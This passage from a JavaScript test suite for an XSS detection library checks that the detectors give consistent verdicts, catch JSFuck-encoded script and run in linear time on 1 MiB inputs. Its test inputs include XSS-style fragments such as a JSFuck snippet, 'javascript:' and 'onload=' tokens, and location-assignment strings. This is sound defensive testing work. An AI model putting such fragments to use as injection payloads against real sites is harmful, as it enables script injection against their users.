  it('answers the same for a value whatever was read before it', () => {
    const before = [
      '`'.repeat(1500),
      '('.repeat(1500),
      '"'.repeat(1500),
      '`(1)'.repeat(400),
      '/'.repeat(1500),
      '',
    ];
    for (const value of [
      "'foo`1`-avbscript",
      'ontop`|onclick',
      ';1)[javascript)document.javascript=vbscript',
      // A location assigned a name cut after one `/`: the second one was read past the value's end.
      '";location=x/',
    ]) {
      const verdicts = before.map((previous) => {
        detectXss(previous);
        return detectXss(value);
      });
      for (const verdict of verdicts) assert.deepEqual(verdict, verdicts[0], value);
    }
  });
  it('finds JSFuck after a long run of parentheses, and reads such a run at no cost per parenthesis', () => {
    const jsFuck = '(![]+[])[+[]]+(![]+[])[!+[]+!+[]]';
    assert.equal(detectXss(`${'('.repeat(1000)}${jsFuck}`).fingerprint, 'js:jsfuck');
    assert.equal(detectXss(`${'('.repeat(3000)}${jsFuck}`).fingerprint, 'js:jsfuck');
    assert.deepEqual(detectXss('('.repeat(2047)), { detected: false });
  });
});

describe('robustness', () => {
  it('never throws and always answers a boolean', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.string({ unit: 'binary' }),
          fc
            .array(fc.constantFrom('<', 'a', ' on', '=', '"', '&#', '%3C', 'javascript:', '(', '\0', '＜'))
            .map((parts) => parts.join('')),
        ),
        (value) => {
          for (const detect of [detectXss, detectXssInUrl, detectXssInRichText]) {
            assert.equal(typeof detect(value).detected, 'boolean');
          }
        },
      ),
      { numRuns: 300 },
    );
  });

  // The time bound (5 ms per 1 MiB on the bench machine) comes from the budget's calibration: a value dense with
  // any mix of candidates stops at the budget. Asserted generously, the suite shares two noisy cores.
  it('bounds the time of 1 MiB values dense with any mix of candidates (under 30 ms each)', () => {
    const size = 1 << 20;
    const token = fc.constantFrom(
      '<',
      '<a ',
      '</',
      '<?',
      '&#',
      '&#39;',
      '&lt;',
      '&{',
      '&',
      '%',
      '%27',
      '%3C',
      '%25',
      '%u0027',
      '\\x27',
      '\\',
      '+A',
      '+ADw-',
      '=',
      ' on',
      'a.b=',
      ')=',
      '(',
      'x(',
      'url(',
      '![]+(',
      '`',
      "'",
      '"',
      '["',
      ':',
      't:',
      'javascript:',
      '\0',
      '＜',
      'ａ',
      '（',
      '\u3000',
      '\u4e2d',
      'x',
      ' ',
      '%20',
      '%22',
      '%2C',
      '%2E',
      '&#46;',
      '&#32;',
      '\\x20',
      '.',
      ';',
    );
    fc.assert(
      fc.property(fc.array(token, { minLength: 1, maxLength: 12 }), (tokens) => {
        const unit = tokens.join('');
        const value = unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
        for (const detect of [detectXss, detectXssInUrl, detectXssInRichText]) {
          // The best of five: the first call flattens the built string, and a collection or the other test files
          // (the suite runs two at a time on two cores) may land on any one.
          let ms = Number.POSITIVE_INFINITY;
          for (let run = 0; run < 5; run++) {
            const started = performance.now();
            detect(value);
            ms = Math.min(ms, performance.now() - started);
          }
          assert.ok(ms < 30, `${detect.name} on ${JSON.stringify(unit)}: ${ms.toFixed(2)} ms`);
        }
      }),
      { numRuns: 40 },
    );
  });

  // A guard against super-linear work (the denial-of-service risk), not the speed target: a quadratic scan of 1 MiB
  // takes seconds. The 5 ms target is measured on a quiet machine by `npm run bench -- inspect`; a test run shares
  // two cores with the rest of the suite.
  it('stays linear on each 1 MiB pathological value (well under 50 ms each)', () => {
    const size = 1 << 20;
    let seed = 7;
    const random = () => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed / 0x7fffffff;
    };
    const tokens = [
      '<',
      '<a ',
      '&#',
      '%3C',
      '"',
      ' on',
      'javascript:',
      '<svg',
      ' onload=',
      "'",
      '=',
      '(',
      '&lt;',
      '＜',
      'url(',
    ];
    let mix = '';
    while (mix.length < size) mix += tokens[Math.floor(random() * tokens.length)];
    const inputs = {
      lt: '<'.repeat(size),
      tagOpen: '<a '.repeat(size / 3),
      entity: '&#'.repeat(size / 2),
      percent: '%3C'.repeat(size / 3),
      quote: '"'.repeat(size),
      on: ' on'.repeat(size / 3),
      scheme: 'javascript:'.repeat(size / 11),
      paren: 'url('.repeat(size / 4),
      attributes: `<a ${'x=y '.repeat(size / 4)}`,
      // Each `&{` looks ahead for the `}` of a Netscape JavaScript entity: the stretch found free of one is not re-read.
      scriptEntity: '&{'.repeat(size / 2),
      encodedQuotes: '&#39;%27\\x27'.repeat(size / 12),
      // Each escaped dot reads the chain after it, each escaped space the run after it: both memoised.
      escapedDots: 'a%2Eb'.repeat(size / 5),
      escapedSpaces: `%22${'%20'.repeat(size / 3)};foo(1)`,
      // Two-byte text is folded and shadowed before any search.
      cjk: '\u4e2d\u6587 a=b (x)\uff0c'.repeat(size / 12),
      mix,
    };
    for (const [name, value] of Object.entries(inputs)) {
      for (const detect of [detectXss, detectXssInUrl, detectXssInRichText]) {
        let best = Number.POSITIVE_INFINITY;
        for (let run = 0; run < 4; run++) {
          const started = performance.now();
          detect(value);
          best = Math.min(best, performance.now() - started);
        }
        assert.ok(best < 50, `${detect.name} on ${name}: ${best.toFixed(2)} ms`);
      }
    }
  });
});
